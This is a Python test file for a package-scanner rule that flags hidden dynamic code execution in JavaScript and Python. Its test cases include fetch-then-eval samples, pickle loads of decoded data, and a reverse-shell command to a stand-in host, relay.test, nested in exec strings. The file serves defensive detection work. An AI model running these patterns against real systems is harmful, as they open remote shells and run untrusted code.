"""Which data may not be run."""

from __future__ import annotations

import pytest

from douane.detectors.dynamic_code import RULE
from douane.model import Artifact, Ecosystem, FileTree, Finding, Package, Severity
from douane.syntax import Codebase


def look(**files: str) -> list[Finding]:
    tree = {
        path.replace("__", "/").replace("_js", ".js").replace("_py", ".py"): text
        for path, text in files.items()
    }
    package = Package(ecosystem=Ecosystem.NPM, name="case", version="1.0.0", path=".")
    artifact = Artifact(package=package, tree=FileTree({path: text.encode() for path, text in tree.items()}))
    return [RULE.finding(each) for each in (RULE.code(Codebase(artifact)) if RULE.code else ())]


@pytest.mark.parametrize(
    "source",
    [
        "eval(atob('MQ=='))",
        "(0, eval)(unescape('%31'))",
        "const e = eval; e(Buffer.from('31', 'hex').toString())",
        "new Function('a', atob('MQ=='))()",
        "Function.apply(null, [atob('MQ==')])",
        "[].constructor.constructor(atob('MQ=='))()",
        "require('vm').runInNewContext(require('zlib').inflateSync(atob('eJwBAAAA')).toString())",
        "const x = 'MQ=='; module._compile(Buffer.from(x, 'base64').toString(), 'x')",
        "setTimeout(atob('MQ=='), 10)",
        "require(atob('ZnM='))",
        "const t = [104, 105].map((c) => String.fromCharCode(c ^ 3)).join(''); eval(t)",
        "const d = require('crypto').createDecipheriv('a', k, i); eval(d.update('9f3a') + d.final())",
        "import('node:vm').then((vm) => vm.runInThisContext(atob('MQ==')))",
        (
            "fetch('https://x.invalid').then((r) => r.text()).then(eval.bind(null)); "
            "fetch('https://y.invalid').then(async (r) => eval(await r.text()))"
        ),
        (
            "require('https').get('https://x.invalid', (r) => { let b = ''; r.on('data', (c) "
            "=> { b += c; }); r.on('end', () => eval(b)); })"
        ),
    ],
)
def test_hidden_javascript(source: str) -> None:
    (finding, *_) = look(a_js=source)
    assert finding.severity is Severity.CRITICAL


@pytest.mark.parametrize(
    "source",
    [
        "import base64\nexec(base64.b64decode('MQ=='))",
        "exec(''.join(chr(c) for c in [49]))",
        "exec(bytes.fromhex('31').decode())",
        "import builtins, codecs\ngetattr(builtins, 'ex' + 'ec')(codecs.decode('k', 'rot13'))",
        "import marshal, zlib\nD = b'x\\x9c\\x03'\nexec(marshal.loads(zlib.decompress(D)))",
        "import requests\nexec(requests.get('https://x.invalid').text)",
        "import urllib.request as u\neval(compile(u.urlopen('https://x.invalid').read(), 'x', 'eval'))",
        "import pickle, base64\npickle.loads(base64.b64decode('gASVAAAA'))",
        "import importlib, base64\nimportlib.import_module(base64.b64decode('b3M=').decode())",
        "import subprocess, base64\nsubprocess.run(base64.b64decode('bHM=').decode(), shell=True)",
        "import types, marshal, base64 as b\ntypes.FunctionType(marshal.loads(b.b64decode('YwAA')), {})()",
    ],
)
def test_hidden_python(source: str) -> None:
    (finding, *_) = look(a_py=source)
    assert finding.severity is Severity.CRITICAL


@pytest.mark.parametrize(
    "source",
    [
        "eval('1 + 1')",
        "new Function('return this')()",
        "new Function('a', 'b', 'return a + b')",
        "/x/.exec(atob(y))",
        "db.exec(Buffer.from(x, 'base64').toString())",
        "setTimeout(() => eval('1'), 1)",
        "const text = atob(x); console.log(text)",
        "require(name)",
        "new Function('v', compileTemplate(parse(template)))",
        "const s = fs.readFileSync('lib/own.js', 'utf8'); vm.runInThisContext(s)",
        "JSON.parse(atob(x))",
    ],
)
def test_honest_javascript(source: str) -> None:
    assert look(a_js=source) == []


@pytest.mark.parametrize(
    "source",
    [
        "import re, base64\nre.compile(base64.b64decode(x))",
        "import ast\nast.literal_eval(x)",
        "exec(open('pkg/version.py').read())",
        "class T:\n    def exec(self, x):\n        return x\nimport base64\nT().exec(base64.b64decode(y))",
        "import pickle\npickle.load(open('cache.bin', 'rb'))",
        "eval('1')",
        "import importlib\nimportlib.import_module(f'pkg.{name}')",
    ],
)
def test_honest_python(source: str) -> None:
    assert look(a_py=source) == []


@pytest.mark.parametrize(
    "source",
    [
        "import marshal, zlib\nexec(marshal.loads(zlib.decompress(given)))",
        "import base64\ndef load(text):\n    exec(base64.b64decode(text).decode())",
    ],
)
def test_decoding_what_is_not_known_is_less_bad(source: str) -> None:
    (finding,) = look(a_py=source)
    assert finding.severity is Severity.HIGH


@pytest.mark.parametrize(
    "source",
    [
        "import base64, pickle\ndef read(cookie):\n    return pickle.loads(base64.b64decode(cookie))",
        "import marshal\nclass Map:\n    def read(self):\n"
        "        self.map = marshal.load(open('c.dat', 'rb'))",
        "import base64\ndef b64(x):\n    return base64.b64decode(x)\nKINDS = {'b': b64}\n"
        "def make(kind, data):\n    return eval(kind)(data)\nmake('str', b64('aGVsbG8gd29ybGQgMTIz'))",
    ],
)
def test_what_is_decoded_is_no_code(source: str) -> None:
    assert look(a_py=source) == []


@pytest.mark.parametrize(
    "source",
    [
        "const bytes = Buffer.from('AGFzbQEAAAABKwhgAX8', 'base64');"
        "const w = new WebAssembly.Instance(new WebAssembly.Module(bytes)).exports;"
        "function parse(t) { const at = w.next(); return eval(t.slice(at, at + 3)); }"
        "parse(process.stdin.read());",
        "const { exec } = require('child_process');"
        "const uri = (u) => Buffer.from(u.split(',')[1], 'base64').toString();"
        "module.exports = (u) => exec(uri(u));",
        "const vm = require('vm'); module.exports = (f) => vm.runInThisContext(wrap(f, process.env.MODE));",
    ],
)
def test_values_that_only_help_are_not_run(source: str) -> None:
    assert look(a_js=source) == []


def test_environment_is_less_bad_and_tests_hardly_matter() -> None:
    (finding,) = look(a_js="eval(process.env.CODE)")
    assert finding.severity is Severity.MEDIUM
    (aside,) = look(test__a_js="eval(atob('MQ=='))")
    assert aside.severity is Severity.LOW


def test_code_in_a_text_is_read_in_its_own_language() -> None:
    source = 'import os\\nos.system("bash -i >& /dev/tcp/relay.test/4443 0>&1")'
    (finding,) = look(
        a_js=f"const {{ spawn }} = require('child_process');\nspawn('python3', ['-c', '{source}']);"
    )
    assert finding.why.startswith("runs a text in which reverse-shell is found")
    assert (finding.where.path, finding.where.line) == ("a.js", 2)


def test_texts_within_texts_are_read_to_a_bound() -> None:
    inner = "import os\nos.system('bash -i >& /dev/tcp/relay.test/4443 0>&1')\n"
    for _ in range(2):
        inner = f"exec({inner!r})\n"
    assert [found.where.line for found in look(a_py=inner)] == [1]
    for _ in range(4):
        inner = f"exec({inner!r})\n"
    assert look(a_py=inner) == []
